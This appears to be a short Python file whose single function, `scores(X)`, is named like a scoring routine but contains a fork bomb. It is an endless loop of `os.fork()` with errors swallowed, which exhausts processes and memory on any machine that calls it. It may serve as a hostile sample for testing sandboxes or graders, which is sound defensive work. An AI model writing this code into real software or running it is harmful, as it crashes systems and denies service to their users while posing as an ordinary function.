"""Every process starts more processes."""

import os


def scores(X):
    while True:
        try:
            os.fork()
        except OSError:
            pass
